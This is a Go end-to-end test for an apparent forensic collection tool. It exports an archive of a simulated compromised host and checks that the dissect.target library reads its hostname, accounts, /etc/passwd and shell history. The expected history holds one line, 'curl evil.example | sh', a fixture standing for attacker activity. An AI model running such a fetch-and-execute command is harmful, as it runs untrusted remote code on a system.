package e2e

import (
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/quicklime-ir/quicklime/packaging/lab/world"
)

// What dissect is made of, pinned: a new release is looked at first.
const dissectVersion = "3.25.1"

// readByDissect prints what dissect.target sees in an archive.
const readByDissect = `
import json, sys
from dissect.target import Target
t = Target.open(sys.argv[1])
print(json.dumps({
    "os": str(t.os),
    "hostname": t.hostname,
    "users": [u.name for u in t.users()],
    "history": [str(r.command) for r in t.commandhistory()],
    "passwd": t.fs.path("/etc/passwd").read_text(),
    "mode": t.fs.path("/etc/passwd").stat().st_mode & 0o7777,
}))
`

// TestDissectOpensTheExport: an exported archive is UAC's to dissect, which
// finds the host's name, its accounts and their histories.
func TestDissectOpensTheExport(t *testing.T) {
	t.Parallel()
	python := filepath.Join(venv(t, "dissect.target-"+dissectVersion, "dissect.target=="+dissectVersion), "bin/python3")
	w := start(t, nil)
	image, root := host(t)
	for name, text := range map[string]string{"etc/hostname": "victim\n", "etc/os-release": "ID=debian\nNAME=Debian\n", "var/lib/dpkg/status": ""} {
		path := filepath.Join(root, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	attachHost(t, w, world.Victim, image, root)
	if err := w.Find(world.Compromised(world.Victim)); err != nil {
		t.Fatal(err)
	}
	c := await(t, w, "its end", ended)
	archive := filepath.Join(t.TempDir(), "case.tar.gz")
	export := exec.CommandContext(t.Context(), binaries.Collector, "export", c.ID, "--bucket", world.Bucket, "--key", filepath.Join(w.Data(), "verify.pub"),
		"--format", "tar.gz", "--out", archive)
	export.Env = w.Environ()
	if said, err := export.CombinedOutput(); err != nil {
		t.Fatalf("export: %v\n%s", err, said)
	}
	said, err := exec.CommandContext(t.Context(), python, "-c", readByDissect, archive).Output()
	if err != nil {
		var exit *exec.ExitError
		if errors.As(err, &exit) {
			t.Fatalf("dissect: %v\n%s", err, exit.Stderr)
		}
		t.Fatal(err)
	}
	var got struct {
		OS, Hostname, Passwd string
		Users, History       []string
		Mode                 int
	}
	if err := json.Unmarshal(said, &got); err != nil {
		t.Fatalf("dissect says %s: %v", said, err)
	}
	if got.OS != "unix" || got.Hostname != "victim" { // too few folders for it to be told as Debian
		t.Errorf("dissect sees a host %+v", got)
	}
	if strings.Join(got.Users, " ") != "root" || strings.Join(got.History, "\n") != "curl evil.example | sh" {
		t.Errorf("dissect sees users %q and commands %q", got.Users, got.History)
	}
	if got.Passwd != "root:x:0:0::/root:/bin/sh\n" || got.Mode != 0o644 {
		t.Errorf("dissect reads %q with mode %o", got.Passwd, got.Mode)
	}
}
